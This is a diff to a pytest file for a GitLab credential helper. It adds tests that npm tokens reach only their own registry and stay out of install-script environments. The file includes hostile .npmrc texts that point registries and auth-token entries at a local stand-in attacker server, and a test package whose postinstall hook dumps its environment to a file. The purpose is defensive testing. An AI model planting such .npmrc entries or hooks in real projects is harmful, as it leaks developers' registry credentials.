@@ -12,7 +12,8 @@ import uuid
 import pytest
 
 from tests.conftest import credhelper, write_config
-from tests.support.packages import build_wheel, publish_npm, publish_wheel
+from tests.support.packages import NpmTarball, _targz, build_wheel, publish_wheel
+from tests.support.recording_server import RecordingHTTPSServer
 
 _names = ("pkgs-%s-%d" % (uuid.uuid4().hex[:6], n) for n in itertools.count())
 VENV_BIN = os.path.dirname(sys.executable)
@@ -116,24 +117,129 @@ def test_twine_upload_with_a_write_token_and_not_with_a_read_only_deploy_token(
     assert writer not in done.stdout + done.stderr
 
 
-def test_npm_install_with_the_printed_npmrc_and_its_variable(gitlab, host, project, tmp_path):
+def npm_env(gitlab, tmp_path):
+    """The shell a user runs npm from after following README's npm workflow: nothing set but
+    npm's cache and the test CA (a user of a self-managed instance would set cafile once)."""
+    return dict(os.environ, npm_config_cache=str(tmp_path / "npm-cache"),
+                npm_config_update_notifier="false", npm_config_cafile=gitlab.ca.ca_file,
+                npm_config_audit="false", npm_config_fund="false")
+
+
+def publish_npm_with_install_script(state, project, name, version):
+    """A package whose postinstall writes the environment npm gives it where npm ran."""
+    package_json = {"name": name, "version": version, "main": "index.js", "license": "MIT",
+                    "scripts": {"postinstall": "env > \"$INIT_CWD/env-seen-by-script\""}}
+    data = _targz({"package/package.json": json.dumps(package_json).encode(),
+                   "package/index.js": b"module.exports = 1;\n"})
+    tarball = NpmTarball(name, version, data, package_json)
+    state.add_package_file(project, "npm", name, version, tarball.filename, data, metadata={
+        "package_json": dict(package_json, hasInstallScript=True, dist={
+            "shasum": tarball.shasum, "integrity": tarball.integrity})})
+
+
+def npm_project(directory, npmrc="", **dependencies):
+    directory.mkdir()
+    (directory / "package.json").write_text(json.dumps(
+        {"name": directory.name, "version": "0.0.0", "dependencies": dependencies}))
+    if npmrc:
+        (directory / ".npmrc").write_text(npmrc)
+    return directory
+
+
+VARIABLE = "${CREDHELPER_NPM_TOKEN}"      # what the old README told users to export
+
+
+def hostile_npmrcs(attacker_port, gitlab_path):
+    """What a cloned repository's own .npmrc can try, to have npm send our token elsewhere:
+    (its text, whether npm refuses it outright)."""
+    evil = "https://127.0.0.1:%d" % attacker_port
+    same_name = "https://localhost:%d%s" % (attacker_port, gitlab_path)
+    return {
+        "registry with its own token entry": (
+            "registry=%s/\n//127.0.0.1:%d/:_authToken=%s\n" % (evil, attacker_port, VARIABLE),
+            False),
+        "scope with _authToken and _auth entries": (
+            "@evil:registry=%s/scoped/\n//127.0.0.1:%d/scoped/:_authToken=%s\n"
+            "//127.0.0.1:%d/:_auth=%s\n" % (evil, attacker_port, VARIABLE, attacker_port,
+                                              VARIABLE), False),
+        "our registry's path on another port": ("registry=%s\nalways-auth=true\n" % same_name,
+                                                False),
+        "another registry, always-auth": ("registry=%s/\nalways-auth=true\n" % evil, False),
+        "unscoped _authToken and _auth": (
+            "registry=%s/\n_authToken=%s\n_auth=%s\n" % (evil, VARIABLE, VARIABLE), True),
+    }
+
+
+def assert_nothing_of_ours(received, token, trick):
+    """No token bytes anywhere; no Authorization header but one the hostile .npmrc wrote
+    itself (its ${CREDHELPER_NPM_TOKEN}, unexpanded because no such variable exists)."""
+    assert not [raw for _, _, raw in received if token.encode() in raw], trick
+    sent = [v for _, headers, _ in received for k, v in headers.items()
+            if k.lower() == "authorization"]
+    assert all(VARIABLE in value for value in sent), (trick, sent)
+
+
+def test_npm_token_goes_only_to_its_registry_and_into_no_environment(gitlab, host, project,
+                                                                      tmp_path, home):
+    """README's npm workflow (credhelper npmrc HOST --project ID): a hostile repository's own
+    .npmrc cannot send the token to another registry, a dependency's install script does not
+    see it, and npm install from GitLab works."""
     name = next(_names)
-    publish_npm(gitlab.state, project.path, name, "1.2.3")
-    token = gitlab.state.create_pat("alice", ["read_api"]).token
+    publish_npm_with_install_script(gitlab.state, project.path, name, "1.2.3")
+    token = gitlab.state.create_pat("alice", ["api"]).token
     credhelper("add", host, input=token)
-    app = tmp_path / "app"
-    app.mkdir()
-    (app / "package.json").write_text(json.dumps({"name": "app", "version": "0.0.0"}))
-    npmrc = app / ".npmrc"
-    npmrc.write_text("cafile=%s\naudit=false\nfund=false\n" % gitlab.ca.ca_file)
-    credhelper("npmrc", host, "--project", str(project.id), "--write", str(npmrc))
-    assert token not in npmrc.read_text()
-    env = dict(os.environ, CREDHELPER_NPM_TOKEN=credhelper("token", host).stdout.strip(),
-               npm_config_cache=str(tmp_path / "npm-cache"), npm_config_update_notifier="false")
-    done = call(["npm", "install", "--no-audit", "--no-fund", name], env, cwd=str(app))
+    credhelper("npmrc", host, "--project", str(project.id))
+    env = npm_env(gitlab, tmp_path)
+    assert token not in json.dumps(env)
+    path = "/api/v4/projects/%d/packages/npm/" % project.id
+    with RecordingHTTPSServer(gitlab.ca) as attacker:
+        for number, (trick, (npmrc, refused)) in enumerate(
+                hostile_npmrcs(attacker.port, path).items()):
+            before = len(attacker.received)
+            repo = npm_project(tmp_path / ("hostile-%d" % number), npmrc,
+                               **{"@evil/x": "1.0.0"})
+            done = call(["npm", "install", "--ignore-scripts"], env, cwd=str(repo))
+            got = attacker.received[before:]
+            if refused:
+                assert "ERR_INVALID_AUTH" in done.stderr and not got, trick
+            else:
+                assert got, "npm never asked the attacker (%s): %s" % (trick, done.stderr)
+            assert_nothing_of_ours(got, token, trick)
+            assert token not in done.stdout + done.stderr
+    app = npm_project(tmp_path / "app")
+    done = call(["npm", "install", name], env, cwd=str(app))
     assert done.returncode == 0, done.stdout + done.stderr
     assert (app / "node_modules" / name / "package.json").exists()
     assert carried(gitlab, token) and token not in done.stdout + done.stderr
+    seen = (app / "env-seen-by-script").read_text()
+    assert "npm_package_name=%s" % name in seen and token not in seen
+
+
+def test_npm_after_a_rotation_works_again_once_the_user_config_is_refreshed(
+        gitlab, host, project, tmp_path, home):
+    """credhelper rotates the token (GitLab revokes the old one); npm's copy in ~/.npmrc is
+    then stale until `credhelper npmrc --refresh`, as README says."""
+    from tests.support.packages import publish_npm
+
+    name = next(_names)
+    publish_npm(gitlab.state, project.path, name, "1.0.0")
+    token = gitlab.state.create_pat("alice", ["api"]).token
+    credhelper("add", host, input=token)
+    credhelper("npmrc", host, "--project", str(project.id))
+    credhelper("rotate", host)
+    new = credhelper("token", host).stdout.strip()
+    assert new != token
+    env = npm_env(gitlab, tmp_path)
+    stale = call(["npm", "install", name], env, cwd=str(npm_project(tmp_path / "before")))
+    assert stale.returncode != 0
+    done = credhelper("npmrc", "--refresh")
+    assert new not in done.stdout + done.stderr
+    app = npm_project(tmp_path / "after")
+    fresh = call(["npm", "install", name], env, cwd=str(app))
+    assert fresh.returncode == 0, fresh.stdout + fresh.stderr
+    assert (app / "node_modules" / name / "package.json").exists()
+    assert (home / ".npmrc").read_text().count(new) == 1 and token not in (
+        home / ".npmrc").read_text()
 
 
 def test_terraform_init_gets_its_token_from_the_credentials_helper(gitlab, project, tmp_path,
